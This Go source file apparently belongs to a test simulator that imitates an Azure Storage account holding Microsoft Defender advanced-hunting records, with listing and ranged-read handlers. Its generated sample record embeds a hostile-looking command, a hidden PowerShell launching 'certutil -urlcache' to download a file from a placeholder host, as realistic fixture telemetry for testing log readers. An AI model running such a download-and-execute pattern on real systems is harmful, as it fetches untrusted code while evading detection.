package simulator

import (
	"encoding/base64"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
)

// The Streaming API's Storage-account destination: Defender appends each table's records, one
// JSON line each, to an hourly append blob of the table's container,
//
//	insights-logs-advancedhunting-<table>/tenantId=<tenant>/y=YYYY/m=MM/d=DD/h=HH/m=00/PT1H.json
//
// The simulated account answers the calls a blob reader makes — list containers, list blobs
// (flat or by folder), container properties and ranged reads — on a plain-HTTP listener of its
// own on 127.0.0.1, the way the Azure Storage emulator does. Requests are not authenticated:
// any shared key is accepted.

// StorageAccountName is the simulated storage account.
const StorageAccountName = "defendersim"

// storageAccountKey is the simulated account's key, a fixed public test value like the Azure
// Storage emulator's.
var storageAccountKey = base64.StdEncoding.EncodeToString([]byte("defenderbeat simulator storage key"))

// blobService is the simulated storage account.
type blobService struct {
	listener net.Listener
	http     *http.Server
	url      string // http://127.0.0.1:PORT/<account>

	mu         sync.Mutex
	containers map[string]map[string]blobContent // container → blob name → content
	created    time.Time
}

// blobContent is what a blob holds: bytes in memory, or lines generated as they are read.
type blobContent interface {
	size() int64
	readAt(p []byte, off int64) int
}

type memBlob struct{ data []byte }

func (b *memBlob) size() int64                    { return int64(len(b.data)) }
func (b *memBlob) readAt(p []byte, off int64) int { return copy(p, b.data[off:]) }

// generatedBlob holds lines of one length made by line(i) as they are read, so a blob of
// gigabytes costs no memory.
type generatedBlob struct {
	lines   int64
	lineLen int64
	line    func(i int64) []byte // exactly lineLen bytes, its line break included
}

func (b *generatedBlob) size() int64 { return b.lines * b.lineLen }

func (b *generatedBlob) readAt(p []byte, off int64) int {
	n := 0
	for n < len(p) && off < b.size() {
		i := off / b.lineLen
		n += copy(p[n:], b.line(i)[off-i*b.lineLen:])
		off = i*b.lineLen + b.lineLen
	}
	return n
}

func startBlobService(addr string, now time.Time) (*blobService, error) {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		host = "127.0.0.1"
	}
	ln, err := net.Listen("tcp", net.JoinHostPort(host, "0"))
	if err != nil {
		return nil, err
	}
	s := &blobService{listener: ln, containers: map[string]map[string]blobContent{}, created: now.UTC()}
	s.url = fmt.Sprintf("http://%s/%s", ln.Addr().String(), StorageAccountName)
	s.http = &http.Server{Handler: s, ReadHeaderTimeout: 10 * time.Second}
	go func() { _ = s.http.Serve(ln) }()
	return s, nil
}

func (s *blobService) close() { _ = s.http.Close() }

// connectionString is the account's connection string, in the explicit form azblob accepts.
func (s *blobService) connectionString() string {
	return fmt.Sprintf("DefaultEndpointsProtocol=http;AccountName=%s;AccountKey=%s;BlobEndpoint=%s;", StorageAccountName, storageAccountKey, s.url)
}

// appendRecords appends Streaming API records (a {"records":[…]} message) to their table's
// blob of the hour of at, one line each, as Defender does.
func (s *blobService) appendRecords(table, tenant string, at time.Time, message []byte) error {
	var msg struct {
		Records []json.RawMessage `json:"records"`
	}
	if err := json.Unmarshal(message, &msg); err != nil {
		return err
	}
	var lines []byte
	for _, r := range msg.Records {
		lines = append(lines, r...)
		lines = append(lines, '\r', '\n')
	}
	s.appendBlob(StorageContainer(table), StorageBlobName(tenant, at), lines)
	return nil
}

func (s *blobService) appendBlob(container, name string, data []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	blobs := s.containers[container]
	if blobs == nil {
		blobs = map[string]blobContent{}
		s.containers[container] = blobs
	}
	b, ok := blobs[name].(*memBlob)
	if !ok {
		b = &memBlob{}
		blobs[name] = b
	}
	b.data = append(b.data, data...)
}

func (s *blobService) putBlob(container, name string, b blobContent) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.containers[container] == nil {
		s.containers[container] = map[string]blobContent{}
	}
	s.containers[container][name] = b
}

// StorageContainer is the container Defender writes a table's records to.
func StorageContainer(table string) string {
	return "insights-logs-advancedhunting-" + strings.ToLower(table)
}

// StorageBlobName is the blob Defender appends a tenant's records of one hour to.
func StorageBlobName(tenant string, at time.Time) string {
	h := at.UTC()
	return fmt.Sprintf("tenantId=%s/y=%04d/m=%02d/d=%02d/h=%02d/m=00/PT1H.json", tenant, h.Year(), int(h.Month()), h.Day(), h.Hour())
}

func (s *blobService) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("x-ms-version", "2025-01-05")
	path := strings.TrimPrefix(r.URL.Path, "/")
	account, rest, _ := strings.Cut(path, "/")
	if account != StorageAccountName {
		storageError(w, http.StatusBadRequest, "InvalidUri", "unknown account")
		return
	}
	q := r.URL.Query()
	container, blobName, _ := strings.Cut(rest, "/")
	switch {
	case r.Method != http.MethodGet && r.Method != http.MethodHead:
		storageError(w, http.StatusForbidden, "AuthorizationPermissionMismatch", "the simulated account is read-only")
	case container == "" && q.Get("comp") == "list":
		s.listContainers(w, q.Get("prefix"))
	case blobName == "" && q.Get("restype") == "container" && q.Get("comp") == "list":
		s.listBlobs(w, container, q.Get("prefix"), q.Get("delimiter"))
	case blobName == "" && q.Get("restype") == "container":
		s.containerProperties(w, container)
	case blobName != "":
		s.download(w, r, container, blobName)
	default:
		storageError(w, http.StatusBadRequest, "UnsupportedQueryParameter", "not simulated")
	}
}

func storageError(w http.ResponseWriter, status int, code, msg string) {
	w.Header().Set("x-ms-error-code", code)
	w.Header().Set("Content-Type", "application/xml")
	w.WriteHeader(status)
	fmt.Fprintf(w, `<?xml version="1.0" encoding="utf-8"?><Error><Code>%s</Code><Message>%s</Message></Error>`, code, msg)
}

type xmlProperties struct {
	LastModified  string `xml:"Last-Modified"`
	Etag          string `xml:"Etag"`
	ContentLength *int64 `xml:"Content-Length,omitempty"`
	BlobType      string `xml:"BlobType,omitempty"`
}

func (s *blobService) etag(size int64) string { return fmt.Sprintf(`"0x%X"`, size+1) }

func (s *blobService) lastModified() string { return s.created.Format(http.TimeFormat) }

func (s *blobService) listContainers(w http.ResponseWriter, prefix string) {
	type xmlContainer struct {
		Name       string        `xml:"Name"`
		Properties xmlProperties `xml:"Properties"`
	}
	s.mu.Lock()
	var names []string
	for name := range s.containers {
		if strings.HasPrefix(name, prefix) {
			names = append(names, name)
		}
	}
	s.mu.Unlock()
	slices.Sort(names)
	out := struct {
		XMLName    xml.Name       `xml:"EnumerationResults"`
		Endpoint   string         `xml:"ServiceEndpoint,attr"`
		Prefix     string         `xml:"Prefix"`
		Containers []xmlContainer `xml:"Containers>Container"`
		NextMarker string         `xml:"NextMarker"`
	}{Endpoint: s.url + "/", Prefix: prefix}
	for _, n := range names {
		out.Containers = append(out.Containers, xmlContainer{Name: n, Properties: xmlProperties{LastModified: s.lastModified(), Etag: s.etag(0)}})
	}
	writeXML(w, out)
}

func (s *blobService) listBlobs(w http.ResponseWriter, container, prefix, delimiter string) {
	type xmlBlob struct {
		Name       string        `xml:"Name"`
		Properties xmlProperties `xml:"Properties"`
	}
	type xmlPrefix struct {
		Name string `xml:"Name"`
	}
	s.mu.Lock()
	blobs, ok := s.containers[container]
	sizes := map[string]int64{}
	for name, b := range blobs {
		if strings.HasPrefix(name, prefix) {
			sizes[name] = b.size()
		}
	}
	s.mu.Unlock()
	if !ok {
		storageError(w, http.StatusNotFound, "ContainerNotFound", "The specified container does not exist.")
		return
	}
	// <Blobs> is always there, empty or not, as Azure writes it.
	type xmlBlobs struct {
		Blobs    []xmlBlob   `xml:"Blob"`
		Prefixes []xmlPrefix `xml:"BlobPrefix"`
	}
	out := struct {
		XMLName   xml.Name `xml:"EnumerationResults"`
		Endpoint  string   `xml:"ServiceEndpoint,attr"`
		Container string   `xml:"ContainerName,attr"`
		Prefix    string   `xml:"Prefix"`
		Delimiter string   `xml:"Delimiter,omitempty"`
		Blobs     xmlBlobs `xml:"Blobs"`
		Next      string   `xml:"NextMarker"`
	}{Endpoint: s.url + "/", Container: container, Prefix: prefix, Delimiter: delimiter}
	names := make([]string, 0, len(sizes))
	for name := range sizes {
		names = append(names, name)
	}
	slices.Sort(names)
	seen := map[string]bool{}
	for _, name := range names {
		if delimiter != "" {
			if i := strings.Index(name[len(prefix):], delimiter); i >= 0 {
				folder := name[:len(prefix)+i+len(delimiter)]
				if !seen[folder] {
					seen[folder] = true
					out.Blobs.Prefixes = append(out.Blobs.Prefixes, xmlPrefix{Name: folder})
				}
				continue
			}
		}
		size := sizes[name]
		out.Blobs.Blobs = append(out.Blobs.Blobs, xmlBlob{Name: name, Properties: xmlProperties{
			LastModified: s.lastModified(), Etag: s.etag(size), ContentLength: &size, BlobType: "AppendBlob"}})
	}
	writeXML(w, out)
}

func (s *blobService) containerProperties(w http.ResponseWriter, container string) {
	s.mu.Lock()
	_, ok := s.containers[container]
	s.mu.Unlock()
	if !ok {
		storageError(w, http.StatusNotFound, "ContainerNotFound", "The specified container does not exist.")
		return
	}
	w.Header().Set("Last-Modified", s.lastModified())
	w.Header().Set("ETag", s.etag(0))
	w.WriteHeader(http.StatusOK)
}

// download answers a read of a whole blob or of a range (x-ms-range or Range: bytes=a-b).
func (s *blobService) download(w http.ResponseWriter, r *http.Request, container, name string) {
	s.mu.Lock()
	b, ok := s.containers[container][name]
	var size int64
	if ok {
		size = b.size()
	}
	s.mu.Unlock()
	if !ok {
		storageError(w, http.StatusNotFound, "BlobNotFound", "The specified blob does not exist.")
		return
	}
	from, to := int64(0), size-1
	status := http.StatusOK
	if spec := firstNonEmpty(r.Header.Get("x-ms-range"), r.Header.Get("Range")); spec != "" {
		a, z, ok := parseRange(spec)
		if !ok || a >= size {
			w.Header().Set("Content-Range", fmt.Sprintf("bytes */%d", size))
			storageError(w, http.StatusRequestedRangeNotSatisfiable, "InvalidRange", "The range specified is invalid for the current size of the resource.")
			return
		}
		from, to, status = a, min(z, size-1), http.StatusPartialContent
		if z < 0 {
			to = size - 1
		}
		w.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/%d", from, to, size))
	}
	w.Header().Set("Content-Length", strconv.FormatInt(to-from+1, 10))
	w.Header().Set("Content-Type", "application/octet-stream")
	w.Header().Set("x-ms-blob-type", "AppendBlob")
	w.Header().Set("ETag", s.etag(size))
	w.Header().Set("Last-Modified", s.lastModified())
	w.Header().Set("Accept-Ranges", "bytes")
	w.WriteHeader(status)
	if r.Method == http.MethodHead {
		return
	}
	buf := make([]byte, 64<<10)
	for off := from; off <= to; {
		s.mu.Lock()
		n := b.readAt(buf[:min(int64(len(buf)), to-off+1)], off)
		s.mu.Unlock()
		if n == 0 {
			return
		}
		if _, err := w.Write(buf[:n]); err != nil {
			return
		}
		off += int64(n)
	}
}

// parseRange reads "bytes=a-b" or "bytes=a-"; b is -1 when open.
func parseRange(spec string) (int64, int64, bool) {
	rest, ok := strings.CutPrefix(strings.TrimSpace(spec), "bytes=")
	if !ok {
		return 0, 0, false
	}
	a, z, ok := strings.Cut(rest, "-")
	if !ok {
		return 0, 0, false
	}
	from, err := strconv.ParseInt(a, 10, 64)
	if err != nil || from < 0 {
		return 0, 0, false
	}
	if z == "" {
		return from, -1, true
	}
	to, err := strconv.ParseInt(z, 10, 64)
	if err != nil || to < from {
		return 0, 0, false
	}
	return from, to, true
}

func writeXML(w http.ResponseWriter, v any) {
	raw, err := xml.Marshal(v)
	if err != nil {
		storageError(w, http.StatusInternalServerError, "InternalError", err.Error())
		return
	}
	w.Header().Set("Content-Type", "application/xml")
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write([]byte(xml.Header))
	_, _ = w.Write(raw)
}

// PutLargeTableBlob adds to the simulated storage account a blob of about size bytes of
// DeviceProcessEvents records, under its own tenant folder of table's container for the hour
// of at, generated as it is read; it returns how many records the blob holds. For
// measurements of readers, which must not need memory in proportion to a blob.
func (s *Server) PutLargeTableBlob(table string, at time.Time, size int64) (int64, error) {
	template, err := json.Marshal(map[string]any{
		"time": "2024-05-02T10:00:01.0000000Z", "tenantId": s.tenantID, "operationName": "Publish",
		"category": "AdvancedHunting-DeviceProcessEvents", "Tenant": "DefaultTenant",
		"properties": map[string]any{
			"Timestamp": "2024-05-02T09:59:58.1234567Z", "ActionType": "ProcessCreated",
			"DeviceId": "4a5c3b1e8d2f7a6b9c0d1e2f3a4b5c6d7e8f9a0b", "DeviceName": "ws-0042.contoso.com",
			"FileName": "certutil.exe", "FolderPath": `C:\Windows\System32\certutil.exe`,
			"SHA1": "a3b1c2d4e5f60718293a4b5c6d7e8f9012345678", "SHA256": "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0",
			"ProcessCommandLine": `certutil.exe -urlcache -f http://downloads.example.net/a.bin a.bin`,
			"ProcessId":          4242, "ProcessCreationTime": "2024-05-02T09:59:58.0000000Z",
			"AccountDomain": "contoso", "AccountName": "jdoe", "AccountSid": "S-1-5-21-1004336348-1177238915-682003330-1001",
			"InitiatingProcessFileName": "powershell.exe", "InitiatingProcessId": 3100,
			"InitiatingProcessCommandLine": `powershell.exe -nop -w hidden`, "InitiatingProcessParentFileName": "explorer.exe",
			"MachineGroup": "Workstations", "ReportId": int64(100000000000),
		},
	})
	if err != nil {
		return 0, err
	}
	template = append(template, '\r', '\n')
	// Every record gets its own ReportId, of one width, so every line has one length.
	mark := strings.Index(string(template), "100000000000")
	lineLen := int64(len(template))
	n := max(1, size/lineLen)
	line := func(i int64) []byte {
		out := append([]byte(nil), template...)
		copy(out[mark:], strconv.FormatInt(100000000000+i, 10))
		return out
	}
	return n, s.PutGeneratedBlob(StorageContainer(table), StorageBlobName("large-"+s.tenantID, at), n, lineLen, line)
}
